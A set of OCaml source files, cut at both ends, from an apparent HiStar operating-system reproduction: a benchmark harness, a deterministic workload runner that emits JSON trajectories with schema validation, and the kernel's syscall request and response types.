                  end)
          args
        |> List.sort_uniq compare
      in
      let to_run =
        if selected = [] then List.map (fun (n, _, _) -> n) experiments
        else selected
      in
      print_endline
        "HiStar reproduction benchmarks — times are simulated (virtual-clock)";
      print_endline
        "unless marked otherwise; see EXPERIMENTS.md for methodology.";
      List.iter
        (fun name ->
          let _, _, f = List.find (fun (n, _, _) -> n = name) experiments in
          f ())
        to_run;
      if bechamel then Micro.benchmark ()
