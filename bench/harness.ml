(* Shared plumbing for the benchmark executable: building simulated
   machines, timing phases on the virtual clock, and table printing. *)

module Kernel = Histar_core.Kernel
module Sys = Histar_core.Sys
module Clock = Histar_util.Sim_clock
module Disk = Histar_disk.Disk
module Store = Histar_store.Store
module Fs = Histar_unix.Fs
module Process = Histar_unix.Process
open Histar_label

let l1 = Label.make Level.L1

type machine = {
  kernel : Kernel.t;
  clock : Clock.t;
  disk : Disk.t;
  store : Store.t;
}

(* A full HiStar machine with disk-backed store. The syscall cost is
   calibrated so the paper's IPC numbers land in the right range.
   [faults] optionally wires a disk-fault decision plan (from
   [Histar_faults.Faults.Disk_faults.create]) under the media. *)
let mk_machine ?(syscall_cost_ns = 120) ?faults () =
  let clock = Clock.create () in
  let disk = Disk.create ?faults ~clock () in
  let store = Store.format ~disk ~wal_sectors:262_144 () in
  let kernel = Kernel.create ~clock ~store ~syscall_cost_ns () in
  { kernel; clock; disk; store }

(* Run [f] as init with an FS and a boot process; returns f's value. *)
let boot m f =
  let result = ref None in
  let _tid =
    Kernel.spawn m.kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root m.kernel) ~label:l1 in
        let proc =
          Process.boot ~fs ~container:(Kernel.root m.kernel) ~name:"init" ()
        in
        result := Some (f fs proc))
  in
  Kernel.run m.kernel;
  match !result with
  | Some v -> v
  | None -> failwith "bench: init thread did not complete"

(* Virtual-time measurement of a phase. *)
let timed clock f =
  let t0 = Clock.now_ns clock in
  let v = f () in
  (v, Int64.sub (Clock.now_ns clock) t0)

let s_of_ns ns = Int64.to_float ns /. 1e9
let us_of_ns ns = Int64.to_float ns /. 1e3

(* ---------- table printing ---------- *)

let bar = String.make 78 '-'

let header title =
  Printf.printf "\n%s\n%s\n%s\n" bar title bar

let row4 c0 c1 c2 c3 = Printf.printf "%-38s %12s %12s %12s\n" c0 c1 c2 c3

let fmt_time_s ?(digits = 2) v = Printf.sprintf "%.*f s" digits v
let fmt_time_us v = Printf.sprintf "%.2f µs" v
let fmt_time_ms v = Printf.sprintf "%.2f ms" v
let na = "—"

(* Paper-reference annotation under a row. *)
let paper note = Printf.printf "%-38s %s\n" "  (paper)" note
