(* Deterministic benchmark runner: executes the §7 workloads under a
   fixed seed, snapshots the global metrics registry around each one,
   and emits a schema-versioned JSON trajectory (BENCH_*.json).

   Determinism contract: every workload runs on the virtual clock with
   fixed RNG seeds, so [virtual_ns] and every counter delta are
   bit-identical across runs on the same build. Only [wall_ms] (host
   wall-clock, informational) varies; consumers comparing trajectories
   must strip it. *)

open Harness
module Par = Histar_par.Par
module Metrics = Histar_metrics.Metrics
module Json = Histar_metrics.Json
module Profile = Histar_core.Profile
module Hub = Histar_net.Hub
module Addr = Histar_net.Addr
module Sim_host = Histar_net.Sim_host
module Netd = Histar_net.Netd
module Stack = Histar_net.Stack
module Faults = Histar_faults.Faults
open Histar_label

let schema_version = 1

(* Counters every workload entry must carry, even when zero: the
   trajectory's stable spine. Everything else rides along as nonzero
   deltas. *)
let required_counters =
  [
    "kernel.syscalls";
    "label.checks";
    "label.elided";
    "disk.media_sector_writes";
    "wal.commits";
  ]

type size = Smoke | Full

let size_to_string = function Smoke -> "smoke" | Full -> "full"
let pick size ~smoke ~full = match size with Smoke -> smoke | Full -> full

(* ---------- workloads ----------

   Each returns the virtual nanoseconds its measured phase took. Every
   workload builds a fresh machine from the fixed default seed so state
   never leaks between entries. *)

let ipc_pingpong size =
  let rtts = pick size ~smoke:50 ~full:2_000 in
  let m = mk_machine () in
  boot m (fun _fs proc ->
      let r1, w1 = Process.pipe proc in
      let r2, w2 = Process.pipe proc in
      let _echo =
        Process.spawn proc ~name:"echo" ~fds:[ r1; w2 ] (fun child ->
            let rec loop () =
              let msg = Process.read child r1 8 in
              if String.length msg > 0 then begin
                ignore (Process.write child w2 msg);
                loop ()
              end
            in
            loop ();
            Process.close child w2)
      in
      ignore (Process.write proc w1 "warmup!!");
      ignore (Process.read proc r2 8);
      let (), ns =
        timed m.clock (fun () ->
            for _ = 1 to rtts do
              ignore (Process.write proc w1 "8bytemsg");
              ignore (Process.read proc r2 8)
            done)
      in
      Process.close proc w1;
      ns)

let proc_cycle ~use_spawn size =
  let iters = pick size ~smoke:3 ~full:30 in
  let m = mk_machine () in
  boot m (fun fs proc ->
      ignore (Fs.mkdir fs "/bin");
      Fs.write_file fs "/bin/true" "#!true";
      Fs.write_file fs "/dev-console" "";
      let fds = List.init 3 (fun _ -> Process.open_file proc "/dev-console") in
      let one () =
        let h =
          if use_spawn then
            Process.spawn proc ~name:"true" ~fds (fun c -> Process.exit c 0)
          else
            Process.fork_exec proc ~name:"true" ~text:"/bin/true" ~fds (fun c ->
                Process.exit c 0)
        in
        ignore (Process.wait proc h)
      in
      one () (* warmup *);
      let (), ns =
        timed m.clock (fun () ->
            for _ = 1 to iters do
              one ()
            done)
      in
      ns)

let lfs_content = String.make 1024 'd'

let lfs_create ~mode size =
  let files =
    match mode with
    | `Sync -> pick size ~smoke:5 ~full:100
    | `Group -> pick size ~smoke:20 ~full:800
  in
  let m = mk_machine () in
  boot m (fun fs _proc ->
      ignore (Fs.mkdir fs "/lfs");
      let (), ns =
        timed m.clock (fun () ->
            for i = 0 to files - 1 do
              let p = Printf.sprintf "/lfs/f%05d" i in
              Fs.write_file fs p lfs_content;
              match mode with `Sync -> Fs.fsync fs p | `Group -> ()
            done;
            match mode with `Group -> Sys.sync_all () | `Sync -> ())
      in
      ns)

let large_file_rand size =
  let mb = pick size ~smoke:1 ~full:8 in
  let writes = pick size ~smoke:10 ~full:400 in
  let chunk = 8192 in
  let bytes = mb * 1024 * 1024 in
  let m = mk_machine () in
  boot m (fun fs proc ->
      ignore (Fs.mkdir fs "/big");
      ignore (Fs.create fs "/big/file");
      Fs.reserve fs "/big/file" (bytes + 65536);
      let data = String.make chunk 'L' in
      let fd = Process.open_file proc "/big/file" in
      for _ = 1 to bytes / chunk do
        ignore (Process.write proc fd data)
      done;
      Process.close proc fd;
      Fs.fsync fs "/big/file";
      Sys.sync_all ();
      let rng = Histar_util.Rng.create 7L in
      let (), ns =
        timed m.clock (fun () ->
            for _ = 1 to writes do
              let off = Histar_util.Rng.int rng (bytes - chunk) in
              let fd = Process.open_file proc "/big/file" in
              Process.seek proc fd off;
              ignore (Process.write proc fd data);
              Process.close proc fd;
              Fs.fsync_range fs "/big/file" ~off ~len:chunk
            done)
      in
      ns)

let wget size =
  let bytes = pick size ~smoke:(64 * 1024) ~full:(4 * 1024 * 1024) in
  let m = mk_machine () in
  let hub = Hub.create ~clock:m.clock () in
  let server =
    Sim_host.create ~hub ~clock:m.clock ~ip:"10.0.0.2" ~mac:"www" ()
  in
  Sim_host.serve_file server ~port:80 ~content:(String.make bytes 'w');
  let got = ref 0 in
  let elapsed = ref (-1L) in
  let _tid =
    Kernel.spawn m.kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root m.kernel) ~label:l1 in
        let proc =
          Process.boot ~fs ~container:(Kernel.root m.kernel) ~name:"init" ()
        in
        let i = Sys.cat_create () in
        let netd =
          Netd.start m.kernel ~hub ~container:(Kernel.root m.kernel)
            ~ip:(Addr.ip_of_string "10.0.0.1") ~mac:"km" ~taint:i ()
        in
        let scratch =
          Sys.container_create
            ~container:(Process.container proc)
            ~label:(Label.of_list [ (i, Level.L2) ] Level.L1)
            ~quota:2_097_152L "wget scratch"
        in
        let _wget =
          Process.spawn proc ~name:"wget"
            ~extra_label:[ (i, Level.L2) ]
            ~extra_clearance:[ (i, Level.L2) ]
            (fun _w ->
              let t0 = Clock.now_ns m.clock in
              let sock =
                Netd.Client.connect netd ~return_container:scratch
                  (Addr.v "10.0.0.2" 80)
              in
              Netd.Client.send netd ~return_container:scratch sock "GET /big";
              let rec loop () =
                match Netd.Client.recv netd ~return_container:scratch sock with
                | Some d ->
                    got := !got + String.length d;
                    if !got < bytes then loop ()
                | None -> ()
              in
              loop ();
              elapsed := Int64.sub (Clock.now_ns m.clock) t0)
        in
        ())
  in
  Kernel.run m.kernel;
  if !elapsed < 0L then failwith "wget: transfer did not complete";
  if !got < bytes then
    failwith (Printf.sprintf "wget: got %d of %d bytes" !got bytes);
  !elapsed

(* The same transfer under a fixed fault schedule: 5% frame loss on
   the wire plus 1% latent sector errors under the store. The client
   retries at connection and request level, the fetched page is
   persisted through the WAL, and the store is scrubbed back to clean
   afterwards — so the entry's virtual time prices the whole graceful
   degradation path (retransmissions, read retries, repair I/O). *)
let faulty_schedule =
  Faults.Schedule.mk ~seed:0xFA0175BEEFL
    ~disk:
      {
        Faults.Schedule.latent_rate = 0.01;
        transient_rate = 0.0;
        corrupt_rate = 0.0;
      }
    ~net:
      {
        Faults.Schedule.default_net with
        Faults.Schedule.loss_rate = 0.05;
        corrupt_rate = 0.0;
        duplicate_rate = 0.0;
        reorder_rate = 0.0;
        jitter_us = 0;
      }
    ()

let wget_faulty size =
  let bytes = pick size ~smoke:(32 * 1024) ~full:(1024 * 1024) in
  let m = mk_machine ?faults:(Faults.Disk_faults.create faulty_schedule) () in
  let hub =
    Hub.create
      ?faults:(Faults.Net_faults.create faulty_schedule)
      ~clock:m.clock ()
  in
  let server =
    Sim_host.create ~hub ~clock:m.clock ~ip:"10.0.0.2" ~mac:"www" ()
  in
  let content = String.make bytes 'w' in
  Sim_host.serve_file server ~port:80 ~content;
  let page = ref "" in
  let elapsed = ref (-1L) in
  let _tid =
    Kernel.spawn m.kernel ~name:"init" (fun () ->
        let fs = Fs.format_root ~container:(Kernel.root m.kernel) ~label:l1 in
        let proc =
          Process.boot ~fs ~container:(Kernel.root m.kernel) ~name:"init" ()
        in
        let i = Sys.cat_create () in
        let netd =
          Netd.start m.kernel ~hub ~container:(Kernel.root m.kernel)
            ~ip:(Addr.ip_of_string "10.0.0.1") ~mac:"km" ~taint:i ()
        in
        let scratch =
          Sys.container_create
            ~container:(Process.container proc)
            ~label:(Label.of_list [ (i, Level.L2) ] Level.L1)
            ~quota:2_097_152L "wget-faulty scratch"
        in
        let t0 = Clock.now_ns m.clock in
        let client =
          Process.spawn proc ~name:"wget"
            ~extra_label:[ (i, Level.L2) ]
            ~extra_clearance:[ (i, Level.L2) ]
            (fun _w ->
              let attempt () =
                let sock =
                  Netd.Client.connect_retry netd ~return_container:scratch
                    (Addr.v "10.0.0.2" 80)
                in
                let buf = Buffer.create bytes in
                Netd.Client.send netd ~return_container:scratch sock
                  "GET /big";
                let rec loop () =
                  match
                    Netd.Client.recv netd ~return_container:scratch sock
                  with
                  | Some d ->
                      Buffer.add_string buf d;
                      loop ()
                  | None -> ()
                in
                loop ();
                Netd.Client.close netd ~return_container:scratch sock;
                Buffer.contents buf
              in
              let rec go n =
                match attempt () with
                | p -> page := p
                | exception Netd.Client.Netd_error _ when n > 1 -> go (n - 1)
              in
              go 3)
        in
        ignore (Process.wait proc client);
        (* Persist the page through the WAL on the faulty disk. *)
        ignore (Fs.mkdir fs "/srv");
        Fs.write_file fs "/srv/page" !page;
        Fs.fsync fs "/srv/page";
        Sys.sync_all ();
        elapsed := Int64.sub (Clock.now_ns m.clock) t0)
  in
  (* Frames can be lost with the kernel idle, leaving only the external
     server's RTO armed; advance the clock to it and tick its stack
     whenever [Kernel.run] drains without finishing the workload. *)
  let rec drive n =
    Kernel.run m.kernel;
    if !elapsed < 0L then begin
      if n <= 0 then failwith "wget-faulty: simulation stalled";
      match Stack.next_timer_deadline (Sim_host.stack server) with
      | Some d ->
          let now = Clock.now_ns m.clock in
          if Int64.compare d now > 0 then
            Clock.advance_ns m.clock (Int64.sub d now);
          Stack.tick (Sim_host.stack server);
          drive (n - 1)
      | None -> failwith "wget-faulty: stalled with no armed server timer"
    end
  in
  drive 100_000;
  if not (String.equal !page content) then
    failwith
      (Printf.sprintf "wget-faulty: got %d bytes, expected %d, payload %s"
         (String.length !page) bytes
         (if String.length !page = bytes then "corrupt" else "truncated"));
  (* Repair the store back to clean; latent sectors struck during the
     run must be recoverable without losing any object. *)
  let scrub = Store.scrub m.store in
  if not scrub.Store.clean then
    failwith "wget-faulty: scrub did not converge";
  if scrub.Store.lost <> [] then
    failwith "wget-faulty: scrub lost objects";
  Store.fsck m.store;
  !elapsed

(* Multi-node scale-out: the lib/apps web cluster driven end-to-end
   over lib/dist, measured as the makespan of a fixed request batch.
   One entry per node count gives the scale trajectory (requests/sec
   vs nodes) as consecutive cells of the same committed run; the
   dist-smoke CI job checks the 1→4 cells actually speed up. *)
let dist_cluster ?(user_count = 2) ?(concurrency = 8) ?(zipf = false) ~nodes
    size =
  let module Webcluster = Histar_apps.Webcluster in
  let module Rng = Histar_util.Rng in
  let requests = pick size ~smoke:12 ~full:120 in
  let wc = Webcluster.build ~app_nodes:nodes ~user_count ~work_us:5_000 () in
  let users = Webcluster.users wc in
  (* Request mix: round-robin for the small cells, zipfian (weight
     1/rank over the user population, fixed seed) for the big one —
     a skewed popular-user mix is what makes the session-token cache
     and per-connection admission memos earn their keep, and it
     concentrates load on a few shards the way real traffic would. *)
  let pick_user =
    if not zipf then fun i -> users.(i mod Array.length users)
    else begin
      let n = Array.length users in
      let weights = Array.init n (fun r -> 1.0 /. float_of_int (r + 1)) in
      let total = Array.fold_left ( +. ) 0.0 weights in
      let rng = Rng.create 0x7a69706621L in
      fun _ ->
        let x = float_of_int (Rng.int rng 1_000_000) /. 1e6 *. total in
        let rec scan r acc =
          if r >= n - 1 then r
          else
            let acc = acc +. weights.(r) in
            if x < acc then r else scan (r + 1) acc
        in
        users.(scan 0 0.0)
    end
  in
  let batch =
    Array.init requests (fun i ->
        let u, p = pick_user i in
        (u, p, u))
  in
  let t0 = Webcluster.clock_snapshot wc in
  let finished, outcomes = Webcluster.run_load wc ~concurrency batch in
  if not finished then
    failwith (Printf.sprintf "dist-cluster-%d: load did not complete" nodes);
  Array.iter
    (fun o ->
      let secret = Webcluster.secret_of wc o.Webcluster.o_user in
      let contains hay needle =
        let nh = String.length hay and nn = String.length needle in
        let rec go i = i + nn <= nh && (String.sub hay i nn = needle || go (i + 1)) in
        nn = 0 || go 0
      in
      if not (contains o.Webcluster.o_reply secret) then
        failwith
          (Printf.sprintf "dist-cluster-%d: %s did not get their record"
             nodes o.Webcluster.o_user))
    outcomes;
  Webcluster.elapsed_since wc t0

(* The versioned-state API itself: off a populated, checkpointed
   trunk, fork a chain of copy-on-write store branches at each depth,
   mutating every link, then checkpoint + fsck the leaf and drop the
   chain. Each depth is bracketed by a named kernel handle so the
   branch registry is exercised too. Deep chains stay cheap because a
   fork copies only the B+-tree path to each mutated object. *)
let snapshot_fork size =
  let objects = pick size ~smoke:192 ~full:2048 in
  let rounds = pick size ~smoke:1 ~full:4 in
  let m = mk_machine () in
  boot m (fun _fs _proc ->
      let payload = String.make 128 's' in
      for i = 0 to objects - 1 do
        Store.put m.store ~oid:(Int64.of_int (0x5000 + i)) payload
      done;
      Store.checkpoint m.store);
  (* Kernel is quiescent now; branch off the trunk. *)
  let (), ns =
    timed m.clock (fun () ->
        for round = 1 to rounds do
          List.iter
            (fun depth ->
              let h =
                Kernel.fork ~name:(Printf.sprintf "bench-depth-%d" depth)
                  m.kernel
              in
              let leaf = ref m.store in
              for d = 0 to depth - 1 do
                let b = Store.fork !leaf in
                Store.put b
                  ~oid:(Int64.of_int (0x5000 + (d mod objects)))
                  (Printf.sprintf "branch %d/%d/%d" round depth d);
                leaf := b
              done;
              Store.checkpoint !leaf;
              Store.fsck !leaf;
              Kernel.drop h)
            [ 1; 8; 64 ]
        done)
  in
  ns

(* The LIO floating-label layer priced end to end: one service thread
   serving a fixed mix of tenant evaluations, each a [to_labeled]
   block (one-shot gate create + call + reap) plus a laundering outbox
   excursion (§3.5 ⋆-drop on the scope's return). Every fifth request
   is a cross-tenant peek the kernel denies inside the block, so the
   entry prices the denial path too; the service label must come back
   clean or the workload fails. *)
let lio_eval size =
  let module Lio_eval = Histar_apps.Lio_eval in
  let requests = pick size ~smoke:40 ~full:1_000 in
  let tenants = [| "alice"; "bob"; "carol"; "dave" |] in
  let n = Array.length tenants in
  let m = mk_machine () in
  let elapsed = ref (-1L) in
  let _tid =
    Kernel.spawn m.kernel ~name:"lio-eval" (fun () ->
        let t =
          Lio_eval.create ~container:(Kernel.root m.kernel)
            (Array.to_list tenants)
        in
        Array.iteri
          (fun i name -> Lio_eval.set_var t ~tenant:name "x" (i + 1))
          tenants;
        let denials = ref 0 in
        let (), ns =
          timed m.clock (fun () ->
              for i = 0 to requests - 1 do
                let name = tenants.(i mod n) in
                let e =
                  if i mod 5 = 4 then begin
                    incr denials;
                    Lio_eval.Peek (tenants.((i + 1) mod n), "x")
                  end
                  else Lio_eval.Add (Lio_eval.Var "x", Lio_eval.Lit i)
                in
                ignore (Lio_eval.eval t ~tenant:name e)
              done)
        in
        if Lio_eval.served t <> requests - !denials then
          failwith "lio-eval: served count off";
        if Lio_eval.denied t <> !denials then
          failwith "lio-eval: denied count off";
        if not (Lio_eval.clean t) then
          failwith "lio-eval: service label not clean after the batch";
        elapsed := ns)
  in
  Kernel.run m.kernel;
  if !elapsed < 0L then failwith "lio-eval: batch did not complete";
  !elapsed

let workloads =
  [
    ("ipc-pingpong", "pipe round trips through the gate IPC path", ipc_pingpong);
    ("fork-exec", "fork/exec/exit/wait of a /bin/true equivalent",
     proc_cycle ~use_spawn:false);
    ("spawn", "spawn/exit/wait of a /bin/true equivalent",
     proc_cycle ~use_spawn:true);
    ("lfs-create-sync", "small-file create with per-file fsync (WAL path)",
     lfs_create ~mode:`Sync);
    ("lfs-create-group", "small-file create with one group sync (checkpoint)",
     lfs_create ~mode:`Group);
    ("large-file-rand", "random synchronous in-place writes to a large file",
     large_file_rand);
    ("wget", "HTTP transfer through netd with a tainted client",
     wget);
    ("wget-faulty",
     "HTTP transfer under 5% loss + 1% latent sector errors, with scrub",
     wget_faulty);
    ("dist-cluster-1", "web cluster request batch over 1 app node",
     fun size -> dist_cluster ~nodes:1 size);
    ("dist-cluster-2", "web cluster request batch over 2 app nodes",
     fun size -> dist_cluster ~nodes:2 size);
    ("dist-cluster-4", "web cluster request batch over 4 app nodes",
     fun size -> dist_cluster ~nodes:4 size);
    ("dist-cluster-8", "web cluster request batch over 8 app nodes",
     fun size -> dist_cluster ~nodes:8 size);
    ("dist-cluster-16",
     "web cluster request batch over 16 app nodes, zipfian over 8 users",
     fun size ->
       dist_cluster ~nodes:16 ~user_count:8 ~concurrency:16 ~zipf:true size);
    ("snapshot-fork",
     "copy-on-write store branches: fork/mutate/fsck/drop at depth 1/8/64",
     snapshot_fork);
    ("lio-eval",
     "multi-tenant LIO evaluator: to_labeled blocks + laundered outbox scopes",
     lio_eval);
  ]

let workload_names = List.map (fun (n, _, _) -> n) workloads

(* ---------- running ---------- *)

exception Workload_failed of string * exn

type entry = {
  e_name : string;
  e_descr : string;
  e_wall_ms : float;
  e_virtual_ns : int64;
  e_counters : (string * int) list;
}

(* A workload cell is always sealed: nested lib/par fan-out (the
   dist-cluster workloads step nodes through Par.run) collapses to the
   inline path, so the whole cell runs on one domain and its
   domain-local metric window sees exactly its own work. Sealing even
   at --jobs 1 keeps the counters — and thus the whole trajectory minus
   wall_ms — byte-identical at every job count and HISTAR_DOMAINS. *)
let run_one size (name, descr, f) =
  Par.sealed @@ fun () ->
  let before = Metrics.snapshot_local () in
  let w0 = Unix.gettimeofday () in
  let virtual_ns =
    try f size with e -> raise (Workload_failed (name, e))
  in
  let wall_ms = (Unix.gettimeofday () -. w0) *. 1e3 in
  let after = Metrics.snapshot_local () in
  let delta = Metrics.diff ~before ~after in
  (* The required spine is always present; other deltas ride along. *)
  let spine =
    List.map
      (fun k -> (k, Metrics.value_in after k - Metrics.value_in before k))
      required_counters
  in
  let extras = List.filter (fun (k, _) -> not (List.mem k required_counters)) delta in
  {
    e_name = name;
    e_descr = descr;
    e_wall_ms = wall_ms;
    e_virtual_ns = virtual_ns;
    e_counters = spine @ extras;
  }

let run_suite ?(jobs = 1) ~size () =
  let was_enabled = Metrics.enabled () in
  Metrics.set_enabled true;
  Metrics.reset ();
  let wl = Array.of_list workloads in
  let entries =
    Fun.protect
      ~finally:(fun () -> Metrics.set_enabled was_enabled)
      (fun () ->
        (* Independent workloads, ordered join: entries come back in
           workload-list order whatever the completion order. *)
        Par.run ~domains:jobs (Array.length wl) (fun i -> run_one size wl.(i))
        |> Array.to_list)
  in
  let total_virtual =
    List.fold_left (fun a e -> Int64.add a e.e_virtual_ns) 0L entries
  in
  Json.Obj
    [
      ("schema_version", Json.Int schema_version);
      ("suite", Json.Str "histar-bench");
      ("size", Json.Str (size_to_string size));
      ("seed", Json.Str "default (0x4853746172217221)");
      ( "workloads",
        Json.List
          (List.map
             (fun e ->
               Json.Obj
                 [
                   ("name", Json.Str e.e_name);
                   ("descr", Json.Str e.e_descr);
                   ("wall_ms", Json.Float e.e_wall_ms);
                   ("virtual_ns", Json.Int (Int64.to_int e.e_virtual_ns));
                   ( "counters",
                     Json.Obj
                       (List.map (fun (k, v) -> (k, Json.Int v)) e.e_counters)
                   );
                 ])
             entries) );
      ("total_virtual_ns", Json.Int (Int64.to_int total_virtual));
    ]

(* ---------- schema validation ---------- *)

let validate json =
  let ( let* ) = Result.bind in
  let err fmt = Printf.ksprintf (fun s -> Error s) fmt in
  let* () =
    match Json.member "schema_version" json with
    | Some (Json.Int v) when v = schema_version -> Ok ()
    | Some (Json.Int v) -> err "schema_version %d, expected %d" v schema_version
    | Some _ | None -> err "missing integer schema_version"
  in
  let* () =
    match Json.member "suite" json with
    | Some (Json.Str "histar-bench") -> Ok ()
    | _ -> err "suite is not \"histar-bench\""
  in
  let* () =
    match Json.member "size" json with
    | Some (Json.Str ("smoke" | "full")) -> Ok ()
    | _ -> err "size is not smoke|full"
  in
  let* ws =
    match Json.member "workloads" json with
    | Some (Json.List (_ :: _ as ws)) -> Ok ws
    | Some (Json.List []) -> err "workloads is empty"
    | _ -> err "missing workloads array"
  in
  (* The trajectory must cover every workload the current runner
     knows, so a stale baseline fails CI when a workload is added. *)
  let present =
    List.filter_map
      (fun w ->
        match Json.member "name" w with
        | Some (Json.Str n) -> Some n
        | _ -> None)
      ws
  in
  let* () =
    List.fold_left
      (fun acc n ->
        let* () = acc in
        if List.mem n present then Ok ()
        else err "trajectory is missing workload %s" n)
      (Ok ()) workload_names
  in
  List.fold_left
    (fun acc w ->
      let* () = acc in
      let* name =
        match Json.member "name" w with
        | Some (Json.Str n) -> Ok n
        | _ -> err "workload without a name"
      in
      let* () =
        match Json.member "wall_ms" w with
        | Some (Json.Float _ | Json.Int _) -> Ok ()
        | _ -> err "%s: missing wall_ms" name
      in
      let* () =
        match Json.member "virtual_ns" w with
        | Some (Json.Int v) when v >= 0 -> Ok ()
        | _ -> err "%s: missing non-negative virtual_ns" name
      in
      let* counters =
        match Json.member "counters" w with
        | Some (Json.Obj _ as c) -> Ok c
        | _ -> err "%s: missing counters object" name
      in
      List.fold_left
        (fun acc k ->
          let* () = acc in
          match Json.member k counters with
          | Some (Json.Int v) when v >= 0 -> Ok ()
          | Some (Json.Int _) -> err "%s: counter %s is negative" name k
          | _ -> err "%s: missing required counter %s" name k)
        (Ok ()) required_counters)
    (Ok ()) ws

(* ---------- IO ---------- *)

let write_file ~path json =
  let oc = open_out path in
  Fun.protect
    ~finally:(fun () -> close_out oc)
    (fun () ->
      output_string oc (Json.to_string ~indent:2 json);
      output_char oc '\n')

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in ic)
    (fun () -> Json.of_string (really_input_string ic (in_channel_length ic)))

(* Strip the nondeterministic wall-clock fields, for trajectory
   comparison. *)
let rec strip_wall = function
  | Json.Obj fields ->
      Json.Obj
        (List.filter_map
           (fun (k, v) ->
             if String.equal k "wall_ms" then None else Some (k, strip_wall v))
           fields)
  | Json.List xs -> Json.List (List.map strip_wall xs)
  | (Json.Null | Json.Bool _ | Json.Int _ | Json.Float _ | Json.Str _) as v ->
      v
