(* Syscall requests and responses (§3). User threads perform the
   {!Syscall} effect; the kernel scheduler interprets it. The interface
   deliberately mirrors the paper's: objects are named by container
   entries, labels are explicit in every request that needs one, and
   gates provide the only protected control transfer. *)

module Label = Histar_label.Label
module Category = Histar_label.Category
open Types

type create_spec = {
  container : oid;  (** container the new object is linked into *)
  label : Label.t;
  descrip : string;  (** 32-byte descriptive string *)
  quota : int64;  (** storage bound for the new object *)
}

type map_flags = { read : bool; write : bool; exec : bool }

type mapping = {
  va : int64;
  seg : centry;
  offset : int;
  npages : int;
  flags : map_flags;
}

type req =
  (* categories and self *)
  | Cat_create
  | Self_get_id
  | Self_get_label
  | Self_get_clearance
  | Self_set_label of Label.t
  | Self_set_clearance of Label.t
  | Self_set_as of centry
  | Self_get_as
  | Self_get_return_gate
  | Self_halt
  | Self_yield
  | Self_usleep of int  (** advance virtual time; reschedules *)
  | Self_sleep_until of int64
      (** block until virtual time reaches the deadline (ns); the
          scheduler advances the clock to the earliest such deadline
          when nothing else is runnable *)
  | Self_wait_alert
  (* generic object operations *)
  | Obj_get_label of centry
  | Obj_get_kind of centry
  | Obj_get_descrip of centry
  | Obj_get_quota of centry  (** returns (quota, usage) *)
  | Obj_set_fixed_quota of centry
  | Obj_set_immutable of centry
  | Obj_get_metadata of centry
  | Obj_set_metadata of centry * string
  | Unref of centry
  | Quota_move of { container : oid; target : oid; nbytes : int64 }
  (* containers *)
  | Container_create of create_spec * int  (** spec, avoid_types mask *)
  | Container_list of centry
  | Container_get_parent of centry
  | Container_link of { container : oid; target : centry }
      (** hard-link an existing object into another container *)
  (* segments *)
  | Segment_create of create_spec * int  (** spec, initial length *)
  | Segment_read of centry * int * int  (** entry, offset, length (-1 = all) *)
  | Segment_write of centry * int * string
  | Segment_resize of centry * int
  | Segment_get_size of centry
  | Segment_copy of centry * create_spec
      (** efficient copy with a different label (§3) *)
  (* address spaces *)
  | As_create of create_spec
  | As_get of centry
  | As_map of centry * mapping
  | As_unmap of centry * int64
  (* threads *)
  | Thread_create of {
      spec : create_spec;
      clearance : Label.t;
      entry : unit -> unit;
    }
  | Thread_alert of centry * int
  | Thread_get_label of centry
  (* gates *)
  | Gate_create of {
      spec : create_spec;
      clearance : Label.t;
      entry : unit -> unit;
      one_shot : bool;
          (** reap the gate after its first successful invocation, like
              the return gates [Gate_call] mints — the primitive under
              scoped label excursions (lib/lio's [to_labeled]) *)
    }
  | Gate_enter of {
      gate : centry;
      requested_label : Label.t;
      requested_clearance : Label.t;
      verify_label : Label.t;
    }  (** one-way transfer: never returns *)
  | Gate_call of {
      gate : centry;
      requested_label : Label.t;
      requested_clearance : Label.t;
      verify_label : Label.t;
      return_spec : create_spec;
      return_clearance : Label.t;
    }
      (** create a return gate capturing the current continuation, then
          enter the service gate; completes when the service enters the
          return gate *)
  (* futexes (§4: the only kernel IPC besides shared memory and gates) *)
  | Futex_wait of centry * int * int64
  | Futex_wake of centry * int * int
  (* network device (§4: a three-call API) *)
  | Net_get_mac of centry
  | Net_send of centry * string
  | Net_recv of centry
  | Segment_cas of centry * int * int64 * int64
      (** atomic compare-and-swap of an 8-byte word: the stand-in for
          x86 atomic instructions on shared memory, which user-level
          mutexes are built from *)
  (* persistence *)
  | Sync_object of centry  (** the fsync path: log this object *)
  | Sync_many of centry list  (** fsync several objects, one barrier *)
  | Sync_range of centry * int * int
      (** in-place flush of a byte range of a segment (§7.1) *)
  | Sync_all  (** whole-system checkpoint / group sync *)
  (* time *)
  | Clock_read

type resp =
  | R_unit
  | R_ok of bool
  | R_oid of oid
  | R_cat of Category.t
  | R_label of Label.t
  | R_bytes of string
  | R_int of int64
  | R_quota of int64 * int64
  | R_kind of kind
  | R_entries of (oid * kind * string) list
  | R_mappings of mapping list
  | R_centry_opt of centry option
  | R_alert of int
  | R_err of error

type _ Effect.t += Syscall : req -> resp Effect.t

let perform req = Effect.perform (Syscall req)

(* Request names, for the syscall profiler (§7.1 counts). *)
let req_name = function
  | Cat_create -> "cat_create"
  | Self_get_id -> "self_get_id"
  | Self_get_label -> "self_get_label"
  | Self_get_clearance -> "self_get_clearance"
  | Self_set_label _ -> "self_set_label"
  | Self_set_clearance _ -> "self_set_clearance"
  | Self_set_as _ -> "self_set_as"
  | Self_get_as -> "self_get_as"
  | Self_get_return_gate -> "self_get_return_gate"
  | Self_halt -> "self_halt"
  | Self_yield -> "self_yield"
  | Self_usleep _ -> "self_usleep"
  | Self_sleep_until _ -> "self_sleep_until"
  | Self_wait_alert -> "self_wait_alert"
  | Obj_get_label _ -> "obj_get_label"
  | Obj_get_kind _ -> "obj_get_kind"
  | Obj_get_descrip _ -> "obj_get_descrip"
  | Obj_get_quota _ -> "obj_get_quota"
  | Obj_set_fixed_quota _ -> "obj_set_fixed_quota"
  | Obj_set_immutable _ -> "obj_set_immutable"
  | Obj_get_metadata _ -> "obj_get_metadata"
  | Obj_set_metadata _ -> "obj_set_metadata"
  | Unref _ -> "unref"
  | Quota_move _ -> "quota_move"
  | Container_create _ -> "container_create"
  | Container_list _ -> "container_list"
  | Container_get_parent _ -> "container_get_parent"
  | Container_link _ -> "container_link"
  | Segment_create _ -> "segment_create"
  | Segment_read _ -> "segment_read"
  | Segment_write _ -> "segment_write"
  | Segment_resize _ -> "segment_resize"
